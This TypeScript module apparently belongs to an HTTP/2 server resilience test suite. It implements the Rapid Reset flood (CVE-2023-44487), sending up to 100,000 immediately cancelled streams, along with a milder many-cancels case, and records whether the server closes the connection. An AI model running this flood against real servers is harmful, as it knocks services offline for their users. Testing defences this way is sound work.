import { PATIENCE } from "./attack";
import { type Budget, type Ended } from "./budget";
import { beginNeighbour, type Connection } from "./connection";
import { headerFrames, reset } from "./frames";
import { callFields, encode } from "./headers";
import { endOfConnection, overHttp2 } from "./overHttp2";

/** Calls that are cancelled as they begin, `batch` of them to a write. @returns how many */
async function cancel(connection: Connection, count: number, batch: number, { left }: Budget): Promise<number> {
  const block = encode(callFields());
  let done = 0;
  for (let going = left; going && done < count; done += batch) {
    const frames = Array.from({ length: batch }, () => {
      const stream = connection.nextStream();
      return [headerFrames(stream, block, false), reset(stream)];
    });
    going = await connection.send(...frames.flat());
  }
  return done;
}

export const rapidReset = overHttp2({
  name: "rapid-reset",
  about: "calls cancelled as soon as they begin, as fast as the connection takes them (CVE-2023-44487)",
  endsWith: ["connection closed"],
  async attack(connection, budget) {
    const calls = await cancel(connection, 100_000, 50, budget);
    return { ...(await endOfConnection(connection, PATIENCE)), details: { calls } };
  },
});

/** More than a page's users cancel, and less than what makes a flood: a connection is shared, so it must live on. */
const CANCELS = 3000;

export const cancels = overHttp2({
  name: "many-cancels",
  about: `${CANCELS} calls cancelled within a few seconds, among others' calls on the same connection`,
  endsWith: ["still open"],
  async attack(connection, budget) {
    let neighbour: Ended["neighbour"] = "served";
    for (let done = 0; done < CANCELS && neighbour === "served" && !connection.closed; done += 100) {
      await cancel(connection, 100, 1, budget);
      // Another user's whole call in between: one that lasted as long as the attack could meet its own timeout.
      neighbour = await (await beginNeighbour(connection))();
    }
    return { endedBy: connection.closed ? "connection closed" : "still open", neighbour };
  },
});
